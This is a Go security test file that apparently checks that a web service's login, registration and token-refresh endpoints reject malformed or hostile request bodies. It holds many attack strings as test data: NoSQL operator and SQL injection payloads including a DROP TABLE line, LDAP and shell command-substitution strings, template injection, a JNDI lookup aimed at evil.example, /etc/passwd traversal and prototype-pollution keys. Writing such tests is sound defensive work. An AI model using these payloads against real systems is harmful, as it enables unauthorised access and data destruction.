//go:build linux

package attack

import (
	"fmt"
	"strings"
	"testing"
)

// Bodies that are read as something else than they say.
var inputAttacks = []attack{
	{"operators", inputOperators},
	{"wrong-types", inputWrongTypes},
	{"injection", inputInjection},
	{"duplicate-fields", inputDuplicates},
	{"other-case", inputOtherCase},
	{"unknown-fields", inputUnknown},
	{"trailing-data", inputTrailing},
	{"not-json", inputNotJSON},
	{"not-text", inputNotText},
	{"form-tricks", inputForms},
	{"charset", inputCharset},
	{"encoded", inputEncoded},
	{"query-for-body", inputQuery},
}

// refusesBody wants a 400 for each body, and no login.
func refusesBody(t *testing.T, path string, bodies ...string) {
	t.Helper()
	s := house(t, "plain")
	c := member(t, s)
	for _, body := range bodies {
		body = strings.NewReplacer("EMAIL", c.email, "PASSWORD", password).Replace(body)
		a := c.fresh().post(t, path, body)
		if a.status != 400 || a.text("code") != "malformed_request" || len(a.header["Set-Cookie"]) > 0 {
			t.Errorf("%.100q: %v", body, a)
		}
	}
}

// inputOperators are those that stores of documents understand.
func inputOperators(t *testing.T) {
	refusesBody(t, "/api/auth/login",
		`{"email":{"$gt":""},"password":{"$gt":""}}`, `{"email":"EMAIL","password":{"$ne":null}}`, `{"email":"EMAIL","password":{"$regex":".*"}}`, `{"email":{"$in":["EMAIL"]},"password":"PASSWORD"}`, `{"email":{"$where":"1==1"},"password":"PASSWORD"}`, `{"$or":[{},{}],"email":"EMAIL","password":"x"}`, `{"email":"EMAIL","password":{"$exists":true}}`,
		`{"email":["EMAIL"],"password":["PASSWORD"]}`, `{"email":{"0":"EMAIL"},"password":"PASSWORD"}`, `{"email":{"toString":"x"},"password":"PASSWORD"}`, `{"email":"EMAIL","password":{"length":9}}`,
	)
	refusesBody(t, "/api/auth/refresh", `{"refresh_token":{"$ne":""}}`, `{"refresh_token":["x"]}`, `{"$where":"1"}`)
}

// inputWrongTypes: of 0 and "0" some systems make one.
func inputWrongTypes(t *testing.T) {
	c := newClient(house(t, "plain"))
	c.email = newEmail()
	c.post(t, "/api/auth/register", credentials(c.email, "12345678901234")).want(t, 201)
	for _, p := range []string{"12345678901234", "1.2345678901234e13", "12345678901234.0", "0", "-1", "1e999", "true", "false", "[]", "{}", `["12345678901234"]`, `{"0":"12345678901234"}`} {
		a := c.fresh().post(t, "/api/auth/login", `{"email":"`+c.email+`","password":`+p+`}`)
		if a.status != 400 || a.text("code") != "malformed_request" {
			t.Errorf("the password %s: %v", p, a)
		}
	}
	refusesBody(t, "/api/auth/login", "[]", "0", "true", `"x"`, `[{"email":"EMAIL","password":"PASSWORD"}]`)
	refusesBody(t, "/api/auth/register", `{"email":"new@example.com","password":"PASSWORD","name":{"a":1}}`, `{"email":"new@example.com","password":"PASSWORD","name":7}`)
}

// inputInjection is text that ends a string in the language of a store, a
// directory, a shell or a template.
func inputInjection(t *testing.T) {
	s := house(t, "plain")
	member(t, s)
	for _, text := range []string{
		"' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "admin'--", "'; DROP TABLE users; --", "1' UNION SELECT 1,2,3 --", "\\' OR 1=1 --", "%' OR '%'='", "*)(uid=*))(|(uid=*", "*", "%", "_", "$(id)", "`id`", "|id", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "\x00", "%00", "\\", "'", "\"", "x'or'1'-'2@example.com", "x'or'1'or'2@example.com", "x'||'1@example.com", "'or'1@example.com", "x'or/**/1--@example.com", "%@example.com", "_ser1@example.com", "*@example.com", "x'and(select'1')@x.example",
	} {
		for _, body := range []string{credentials(text, password), credentials(newEmail(), text), credentials(text, text)} {
			if a := newClient(s).post(t, "/api/auth/login", body); a.status != 401 && a.status != 400 || a.contains("49") && strings.Contains(text, "7*7") {
				t.Errorf("%s: %v", body, a)
			}
		}
		a := newClient(s).form(t, "/login", "email", text, "password", password)
		if a.status != 401 && a.status != 400 || a.contains(">49<") {
			t.Errorf("%q: %v", text, a)
		}
		c := member(t, s)
		c.do(t, "DELETE", "/api/auth/sessions/"+escape(text), "", "").want(t, 404, 405, 400, 307, 301, 308)
		c.form(t, "/account/sessions/terminate", "id", text).want(t, 404)
		c.get(t, "/api/auth/me").want(t, 200)
	}
}

func escape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

func inputDuplicates(t *testing.T) {
	refusesBody(t, "/api/auth/login", `{"email":"nobody@example.com","email":"EMAIL","password":"PASSWORD"}`, `{"email":"EMAIL","password":"x","password":"PASSWORD"}`, `{"email":"EMAIL","password":"PASSWORD","passw\u006frd":"x"}`, `{"email":"EMAIL","\u0065mail":"EMAIL","password":"PASSWORD"}`)
	c := member(t, house(t, "plain"))
	for _, body := range []string{"email=" + c.email + "&password=x&password=correct+horse+battery+staple", "email=nobody@example.com&email=" + c.email + "&password=correct+horse+battery+staple", "email=" + c.email + "&password=correct+horse+battery+staple&%70assword=x"} {
		c.fresh().do(t, "POST", "/login", formKind, body, asBrowser...).want(t, 400)
	}
}

func inputOtherCase(t *testing.T) {
	refusesBody(t, "/api/auth/login", `{"Email":"EMAIL","Password":"PASSWORD"}`, `{"EMAIL":"EMAIL","password":"PASSWORD"}`, `{"email":"EMAIL","passWord":"PASSWORD"}`, `{"email":"EMAIL","pas\u017fword":"PASSWORD"}`, `{"email":"EMAIL","password":"x","Password":"PASSWORD"}`)
}

func inputUnknown(t *testing.T) {
	refusesBody(t, "/api/auth/login", `{"email":"EMAIL","password":"PASSWORD","__proto__":{"admin":true}}`, `{"email":"EMAIL","password":"PASSWORD","constructor":{"prototype":{"admin":true}}}`, `{"email":"EMAIL","password":"PASSWORD","":""}`, `{"email":"EMAIL","password":"PASSWORD","@type":"java.lang.Object"}`, `{"email":"EMAIL","password":"PASSWORD","next":"/x"}`, `{"email":"EMAIL","password":"PASSWORD","-":"/x"}`, `{"user":{"email":"EMAIL","password":"PASSWORD"}}`)
}

func inputTrailing(t *testing.T) {
	refusesBody(t, "/api/auth/login", `{"email":"EMAIL","password":"PASSWORD"}{}`, `{"email":"EMAIL","password":"PASSWORD"} x`, `{"email":"EMAIL","password":"PASSWORD"}]`, `{"email":"EMAIL","password":"PASSWORD"},{}`, `{}{"email":"EMAIL","password":"PASSWORD"}`, "{\"email\":\"EMAIL\",\"password\":\"PASSWORD\"}\x00")
}

func inputNotJSON(t *testing.T) {
	refusesBody(t, "/api/auth/login", "", "{", "}", `{"email"`, `{'email':'EMAIL','password':'PASSWORD'}`, `{email:"EMAIL",password:"PASSWORD"}`, `{"email":"EMAIL","password":"PASSWORD",}`, `/**/{"email":"EMAIL","password":"PASSWORD"}`, `{"email":"EMAIL","password":NaN}`, `{"email":"EMAIL","password":0x10}`, "\ufeff"+`{"email":"EMAIL","password":"PASSWORD"}`, `)]}'{"email":"EMAIL"}`, "<a/>", "email=EMAIL&password=PASSWORD", `{"email":"EMAIL","password":"PASSWORD\`, "{\"email\":\"EMAIL\",\"password\":\"a\nb\"}", `{"email":"EMAIL","password":"\x41"}`, strings.Repeat("[", 20_000), strings.Repeat(`{"a":`, 10_000))
}

// inputNotText: what is put in for bytes that are no text makes passwords alike.
func inputNotText(t *testing.T) {
	refusesBody(t, "/api/auth/login", "{\"email\":\"EMAIL\",\"password\":\"PASSWORD\xff\"}", "{\"email\":\"EMAIL\",\"password\":\"\xc0\x80\"}", `{"email":"EMAIL","password":"\ud800"}`, `{"email":"EMAIL","password":"\udc00\ud800"}`, "{\"email\":\"EMAIL\xed\xa0\x80\",\"password\":\"x\"}")
	refusesBody(t, "/api/auth/register", "{\"email\":\"new@example.com\",\"password\":\"long enough \xff\xfe\"}", `{"email":"new@example.com","password":"long enough \ud800"}`)
	c := newClient(house(t, "plain"))
	for _, body := range []string{"email=a%40b.example&password=long+enough+%ff", "email=a%ff%40b.example&password=long+enough", "email=a%40b.example&password=long+enough&name=%c0%80"} {
		c.do(t, "POST", "/register", formKind, body, asBrowser...).want(t, 400)
	}
}

func inputForms(t *testing.T) {
	c := member(t, house(t, "plain"))
	good := "email=" + c.email + "&password=correct+horse+battery+staple"
	for _, body := range []string{
		"email[$ne]=x&password[$ne]=x", "email[]=" + c.email + "&password[]=correct+horse+battery+staple", "email=" + c.email + "&password[$regex]=.*", "email.x=1&" + good, good + "&email[0]=x", good + ";x=1", good + "&%", good + "&=", good + "&x", "user[email]=" + c.email, "{" + good + "}", good + "&__proto__[admin]=1", good + "&-=x", good + "&Next=x", good + "&admin=1",
	} {
		if a := c.fresh().do(t, "POST", "/login", formKind, body, asBrowser...); a.status != 400 || len(a.header["Set-Cookie"]) > 0 {
			t.Errorf("%q: %v", body, a)
		}
	}
	for _, kind := range []string{"multipart/form-data; boundary=x", "text/plain", formKind + ", text/plain", formKind + "x"} {
		c.fresh().do(t, "POST", "/login", kind, good, asBrowser...).want(t, 415)
	}
}

// inputCharset is text of which other filters on the way may have seen other
// letters.
func inputCharset(t *testing.T) {
	c := member(t, house(t, "plain"))
	utf16 := "\xff\xfe{\x00}\x00"
	for _, charset := range []string{"utf-16", "utf-16le", "utf-7", "ibm500", "latin1", "iso-8859-1", "shift_jis", "utf-8, utf-16", "x", ""} {
		for _, body := range []string{credentials(c.email, password), utf16} {
			c.fresh().do(t, "POST", "/api/auth/login", "application/json; charset=\""+charset+"\"", body).want(t, 415)
		}
		c.fresh().do(t, "POST", "/login", formKind+"; charset=\""+charset+"\"", "email="+c.email+"&password=correct+horse+battery+staple").want(t, 415)
	}
	c.fresh().do(t, "POST", "/api/auth/login", "application/json; charset=UTF-8", credentials(c.email, password)).want(t, 200)
}

// inputEncoded is a body that grows when it is unpacked.
func inputEncoded(t *testing.T) {
	c := member(t, house(t, "plain"))
	for _, encoding := range []string{"gzip", "deflate", "br", "zstd", "x-gzip", "gzip, gzip", "identity, gzip", "x"} {
		c.fresh().post(t, "/api/auth/login", credentials(c.email, password), "Content-Encoding", encoding).want(t, 415)
		c.fresh().post(t, "/api/auth/login", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "Content-Encoding", encoding).want(t, 415)
	}
}

// inputQuery has the credentials in the URL, where logs and histories keep them.
func inputQuery(t *testing.T) {
	c := member(t, house(t, "plain"))
	query := "?email=" + c.email + "&password=correct+horse+battery+staple"
	for _, path := range []string{"/login", "/api/auth/login"} {
		for _, d := range [][2]string{{formKind, ""}, {formKind, "email=" + c.email}, {jsonKind, "{}"}, {jsonKind, `{"email":"` + c.email + `"}`}} {
			c.fresh().do(t, "POST", path+query, d[0], d[1]).want(t, 400)
		}
	}
}
